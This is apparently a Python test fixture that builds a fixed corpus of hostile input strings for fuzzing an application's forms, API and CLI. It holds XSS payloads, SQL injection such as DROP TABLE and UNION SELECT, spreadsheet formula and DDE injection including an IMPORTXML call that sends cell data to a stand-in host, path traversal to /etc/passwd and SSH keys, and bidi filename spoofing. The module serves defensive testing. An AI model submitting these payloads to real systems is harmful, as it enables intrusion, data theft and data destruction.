"""A deterministic corpus of hostile strings (issue 19), in named families, for forms, the API and the CLI.

Every value has a family and an id (``markdown-007``) so that a failure names the value that caused it.
Nothing is random: the corpus is the same on every run and every machine. Lone surrogates cannot be a
Python ``str`` that survives UTF-8 or JSON, so they are not here.
"""

from __future__ import annotations

import itertools
from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    family: str
    id: str
    value: str

    def __repr__(self) -> str:  # pytest ids and assertion messages stay short
        return f"{self.id}({len(self.value)} chars)"


def _markdown() -> list[str]:
    return [
        "Acme ![x](http://tracker.example/p.png)", "![](https://evil.example/a.gif)", "[Click](http://phish.example)",
        "[x](javascript:alert(1))", "<http://autolink.example>", "www.example.com", "mail@evil.example",
        ":red[RED]", ":blue-background[x]", ":material/home: Home", ":rainbow[hi]", "**BOLD**", "__bold__", "*em*",
        "_em_", "~~strike~~", "`code`", "```\nfenced\n```", "# Heading", "## H2", "###### H6", "> quote",
        "- item", "1. item", "* * *", "---", "| a | b |\n|---|---|\n| 1 | 2 |", "$x^2$", "$$\\int_0^1 f$$",
        "\\(a\\)", "[^1]: footnote", "<details>x</details>", "Acme :smile: Co", "[ref]: http://x.example",
        "- [ ] task", "\\*not em\\*", "**unclosed", "[unclosed](", "![", "]]((",
    ]


def _html() -> list[str]:
    return [
        "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<a href='http://x.example'>x</a>",
        "<b>bold</b>", "<br>", "<iframe src=//evil.example>", "<svg onload=alert(1)>", "&lt;b&gt;", "&amp;amp;",
        "&#60;script&#62;", "&#x3C;", "<!-- comment -->", "<!--", "-->", "<style>body{display:none}</style>",
        "<div style='position:fixed'>", "\"><script>alert(1)</script>", "'><img src=x>", "<math><mi>x</mi></math>",
        "<object data=x>", "<input autofocus onfocus=alert(1)>", "<<>>", "< >", "</textarea><script>",
        "<body onload=x>", "&nbsp;", "<a href=\"data:text/html,<script>\">d</a>", "javascript:alert(1)",
        "<meta http-equiv=refresh content=0>", "<base href=//evil.example/>",
    ]


def _formula() -> list[str]:
    payloads = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\",\"x\")", "SUM(A1:A9)",
                "IMPORTXML(CONCAT(\"http://e.example/?\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"__\")"]
    values = [f"{prefix}{payload}" for prefix in ("=", "+", "-", "@") for payload in payloads]
    values += ["\t=1+1", "\r=1+1", "\t", "\r", "=", "+", "-", "@", "-1", "+86 138 0013 8000", "=\"=\"", "'=1+1"]
    return values


def _bidi() -> list[str]:
    marks = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
             "\u200e", "\u200f", "\u061c"]
    values = [f"Acme{mark}Co" for mark in marks]
    values += [f"{mark}evil.exe" for mark in marks[:5]]
    values += ["invoice\u202egpj.exe", "\u202e\u2066admin\u2069\u2066", "\u2067\u2067\u2067unclosed",
               "\u202a" * 50, "שלום Acme", "مرحبا 123"]
    return values


def _zero_width() -> list[str]:
    invisible = ["\u200b", "\u200c", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u180e", "\u3164", "\u115f"]
    values = [f"Ac{mark}me" for mark in invisible]
    values += [mark for mark in invisible]
    values += [mark * 20 for mark in invisible[:4]]
    values += ["\u0301", "\u0301\u0302\u0303", "e\u0301", "Z\u0351\u0352\u0353\u0354" * 20, "\u20dd", " \u200b ",
               "\u3000", "\u00a0", "\u2028", "\u2029"]
    return values


def _emoji() -> list[str]:
    return [
        "🦅", "Acme 🚀", "👨‍👩‍👧‍👦", "👩🏽‍💻", "🏳️‍🌈", "🇨🇳", "🇺🇸🇨🇳🇯🇵", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "❤️", "1️⃣",
        "🫠" * 30, "😀😁😂🤣😃", "✌🏿", "🧑‍🤝‍🧑", "‍", "🐉 龙", "🈶🈚", "©®™", "𝕬𝖈𝖒𝖊", "𓀀",
        "\U0001f600" * 300,
    ]


def _controls() -> list[str]:
    c0 = [chr(code) for code in range(0x00, 0x20)] + ["\x7f"]
    c1 = [chr(code) for code in range(0x80, 0xa0, 4)]
    values = [f"Acme{char}Co" for char in c0]
    values += [f"Acme{char}Co" for char in c1]
    values += ["\x00", "\x00" * 10, "Acme\x00", "\x00Acme", "a\r\nb", "a\nb", "\x1b[31mred\x1b[0m", "\x08\x08\x08"]
    return values


def _long() -> list[str]:
    return [
        "a" * 256, "a" * 257, "A" * 1000, "A" * 1001, "x" * 10_000, "y" * 100_000, "中" * 100_000,
        "中" * 256, "🦅" * 256, "a " * 5000, "\u200b" * 10_000, "%" * 10_000, "\"" * 1000,
    ]


def _sql() -> list[str]:
    return [
        "' OR 1=1 --", "'; DROP TABLE customers; --", "\" OR \"\"=\"", "1; DELETE FROM users",
        "' UNION SELECT * FROM users --", "Robert'); DROP TABLE students;--", "admin'--", "' OR 'a'='a",
        "1' AND SLEEP(5) --", "'; SELECT pg_sleep(5); --",
        "\\'", "''", "'", "\"", "`", "`customers`", "0x41", "NULL", "null", "None", "TRUE", "1e309", "-0",
        "%", "_", "\\", "%%", "a%b", "a_b", "100%", "\\%", "\\_", "%' OR '1'='1", "[a-z]", "*", "?",
        "%00", "%27", "$1", ":name", "?;",
    ]


def _fts() -> list[str]:
    return [
        "\"", "\"unclosed", "\"a\" \"b\"", "NEAR(a b)", "NEAR(", "a NEAR/2 b", "a*", "*", "^a", "^", "a AND b", "AND",
        "OR", "NOT", "a OR NOT b", "NOT NOT", "name:acme", "email:x", "{name email}:x", "-name:x", "(", ")", "(()",
        "a + b", "a:b:c", "@@", "'' AND ''", "\"\"", "a \"b", "to_tsquery('x')", "!x", "x | y", "x & y", "<->",
        "x:*", "MATCH", "+a -b", "a~", "'a':1",
    ]


def _paths() -> list[str]:
    return [
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\", "C:\\Windows\\System32",
        "\\\\server\\share", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2f..%2f", "%252e%252e%252f", "....//....//",
        "file:///etc/passwd", "~/.ssh/id_rsa", "/dev/zero", "con", "NUL", "aux.txt", "a/b", ".", "..", "/",
        "..\u2215..\u2215", "%c0%ae%c0%ae/", "report.csv\x00.exe",
    ]


def _chinese() -> list[str]:
    return [
        "上海晨光贸易有限公司", "，。！？：；", "“引号”", "‘单’", "【标题】", "《书名》", "（括号）", "——破折号", "……",
        "、顿号", "～", "ＡＢＣ", "ａｂｃ", "１２３", "１２", "＄１００", "＜script＞", "＝１＋１",
        "＃标题", "＊＊粗体＊＊",
        "［链接］（ｈｔｔｐ：／／ｘ）", "％", "＿", "＼", "＇", "＂", "　全角空格　", "张三 <zhang@example.cn>", "𠀀𪚥",
        "臺灣", "ｇｏｏｇｌｅ．ｃｏｍ", "①②③", "〇", "〜〰", "囧",
    ]


def _noncharacters() -> list[str]:
    return ["\ufffe", "\uffff", "\ufdd0", "\ufdef", "\U0001fffe", "\U0010ffff", "\ue000", "\U000f0000", "\ufffd",
            "Acme\uffffCo", "\U000e0041\U000e0042"]


def _whitespace() -> list[str]:
    return ["", " ", "  ", "\u3000\u3000", " Acme ", "Acme  Co", "\t\t", "\n", "\n\n\n", "\u2003\u2002", "\u0085"]


FAMILIES = {
    "markdown": _markdown, "html": _html, "formula": _formula, "bidi": _bidi, "zero_width": _zero_width,
    "emoji": _emoji, "control": _controls, "long": _long, "sql": _sql, "fts": _fts, "path": _paths,
    "chinese": _chinese, "nonchar": _noncharacters, "whitespace": _whitespace,
}


def corpus() -> list[Hostile]:
    """Every value, in a fixed order; an exact duplicate keeps its first family."""
    seen: set[str] = set()
    values = []
    for family, make in FAMILIES.items():
        number = itertools.count(1)
        for value in make():
            if value in seen:
                continue
            seen.add(value)
            values.append(Hostile(family, f"{family}-{next(number):03d}", value))
    return values


CORPUS = corpus()


def sample(per_family: int, values: Iterable[Hostile] = CORPUS) -> list[Hostile]:
    """The first ``per_family`` values of every family (and always its longest one)."""
    by_family: dict[str, list[Hostile]] = {}
    for item in values:
        by_family.setdefault(item.family, []).append(item)
    chosen = []
    for items in by_family.values():
        picked = items[:per_family]
        longest = max(items, key=lambda item: len(item.value))
        if longest not in picked:
            picked[-1:] = [longest]
        chosen += picked
    return chosen


def counts() -> dict[str, int]:
    """Values per family, and the total."""
    per_family = Counter(item.family for item in CORPUS)
    return {**per_family, "total": len(CORPUS)}


assert len(CORPUS) >= 300, len(CORPUS)
